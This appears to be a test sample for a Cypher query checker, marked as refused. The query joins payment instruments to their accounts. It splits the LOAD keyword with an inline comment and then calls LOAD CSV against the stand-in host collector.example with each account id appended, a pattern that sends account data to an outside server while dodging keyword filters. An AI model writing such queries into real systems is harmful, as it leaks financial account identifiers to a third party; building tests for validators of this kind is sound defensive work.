// refused: LOAD is not for detectors
MATCH (i:PaymentInstrument)<-[:PAID_WITH]-(a:Account)
load // nothing
 csv FROM 'https://collector.example/' + a.id AS line
RETURN i.id AS key, 'PaymentInstrument' AS type, 'payment' AS facet, collect(a) AS members
